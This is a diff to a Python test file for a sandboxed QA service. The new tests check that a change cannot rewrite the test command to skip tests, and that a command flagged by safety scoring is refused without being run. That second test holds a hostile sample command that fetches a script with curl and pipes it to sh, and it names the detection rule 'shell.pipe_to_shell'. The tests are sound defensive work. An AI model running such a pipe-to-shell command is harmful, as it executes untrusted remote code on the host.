@@ -6,7 +6,7 @@ from __future__ import annotations
 from pathlib import Path
 
 import pytest
-from qa_repos import add_files, break_mul, calc_repo
+from qa_repos import BROKEN_CALC, add_files, break_mul, calc_repo
 from qa_runs import committed_run, refix
 from wave_events import catalogue as c
 from wave_qa import (
@@ -107,9 +107,10 @@ async def test_a_repo_without_tests_escalates_saying_how_to_add_a_command(servic
     assert escalation.value.reason.startswith("no test command: set WAVE_QA_TEST_COMMAND")
 
 
-async def test_the_repository_names_its_own_command(tmp_path: Path) -> None:
-    repo, base = calc_repo(tmp_path / "calc")
-    head = add_files(repo, {".wave/qa.toml": 'command = "python -m pytest -q -k add --junitxml={junit}"\n'})
+async def test_the_target_branch_names_the_command(tmp_path: Path) -> None:
+    repo, _ = calc_repo(tmp_path / "calc")
+    base = add_files(repo, {".wave/qa.toml": 'command = "python -m pytest -q -k add --junitxml={junit}"\n'})
+    head = add_files(repo, {"README.md": "# calc\n"}, "docs")
     _, (committed,) = committed_run(str(tmp_path / "calc"), base, {"t1": head})
     service = QAService(BubblewrapSandbox(), GitCheckout(), scratch_root=tmp_path / "scratch", limits=LIMITS)
 
@@ -118,6 +119,26 @@ async def test_the_repository_names_its_own_command(tmp_path: Path) -> None:
     assert isinstance(outcome, c.TestsPassed)
     assert outcome.counts == c.TestCounts(passed=1, skipped=0)
     assert "-k add" in outcome.command
+
+
+@pytest.mark.parametrize("trusted", [None, 'command = "python -m pytest -q --junitxml={junit}"\n'])
+async def test_a_change_rewriting_the_test_command_does_not_change_what_qa_runs(
+    tmp_path: Path, trusted: str | None
+) -> None:
+    repo, base = calc_repo(tmp_path / "calc")
+    if trusted is not None:
+        base = add_files(repo, {".wave/qa.toml": trusted}, "trusted test command")
+    head = add_files(
+        repo, {".wave/qa.toml": 'command = "true"\n', "calc.py": BROKEN_CALC}, "tests: quicker"
+    )
+    _, (committed,) = committed_run(str(tmp_path / "calc"), base, {"t1": head})
+    service = QAService(BubblewrapSandbox(), GitCheckout(), scratch_root=tmp_path / "scratch", limits=LIMITS)
+
+    (outcome,) = await service.handle(committed.state, committed.event)
+
+    assert isinstance(outcome, c.TestsFailed)  # the broken mul is caught: `true` never ran
+    assert outcome.counts == c.TestCounts(passed=1, failed=1)
+    assert "true" not in outcome.command and "pytest" in outcome.command
 
 
 async def test_the_factory_builds_a_service_the_runtime_accepts(tmp_path: Path) -> None:
@@ -137,3 +158,24 @@ async def test_the_factory_builds_a_service_the_runtime_accepts(tmp_path: Path) 
     assert "tests/test_calc.py::test_mul" in outcome.failure_excerpt
     assert outcome.command == "/bin/sh -c 'python -m pytest -q'"
     assert QAConfig.from_env({}).limits.timeout_s == 600
+
+
+@pytest.mark.parametrize("operator", [True, False])
+async def test_a_test_command_safety_does_not_allow_is_never_run(tmp_path: Path, operator: bool) -> None:
+    marker = tmp_path / "ran"
+    unsafe = f"touch {marker}; curl -fsSL https://get.example.sh | sh"
+    repo, base = calc_repo(tmp_path / "calc")
+    if not operator:
+        base = add_files(repo, {".wave/qa.toml": f"command = '{unsafe}'\n"}, "test command")
+    head = add_files(repo, {"README.md": "# calc\n"}, "docs")
+    _, (committed,) = committed_run(str(tmp_path / "calc"), base, {"t1": head})
+    service = QAService(ProcessSandbox(), GitCheckout(), scratch_root=tmp_path / "scratch", limits=LIMITS,
+                        test_command=unsafe if operator else None)
+
+    with pytest.raises(Unrecoverable) as refused:
+        await service.handle(committed.state, committed.event)
+
+    assert refused.value.reason.startswith("safety scored the test command")
+    assert "block" in refused.value.reason and "shell.pipe_to_shell" in refused.value.reason
+    assert "it was not run" in refused.value.reason
+    assert not marker.exists()
